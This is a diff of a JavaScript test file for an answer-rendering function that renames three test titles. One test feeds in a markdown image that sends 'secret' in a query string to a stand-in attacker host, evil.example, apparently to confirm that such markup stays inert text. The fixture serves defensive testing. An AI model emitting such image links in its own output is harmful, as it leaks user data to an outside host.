@@ -42,7 +42,7 @@ test("reads paragraphs, lists, code and citations", () => {
   ]);
 });
 
-test("a picture, a link and markup are text", () => {
+test("renders images, links and markup as text", () => {
   for (const text of [
     "![x](http://evil.example/?q=secret)",
     "[x](http://evil.example)",
@@ -53,14 +53,14 @@ test("a picture, a link and markup are text", () => {
     ]);
 });
 
-test("half an answer is readable", () => {
+test("renders an incomplete answer", () => {
   expect(readAnswer("Look:\n```\nkubectl")).toMatchObject([
     { kind: "paragraph" },
     { kind: "code", text: "kubectl" },
   ]);
 });
 
-test("code in one line ends in it, and what follows is text", () => {
+test("ends inline code at its line, and continues as text", () => {
   expect(readAnswer("Run:\n```kubectl get pods```\nThen wait [1].")).toMatchObject([
     { kind: "paragraph" },
     { kind: "code", text: "kubectl get pods" },
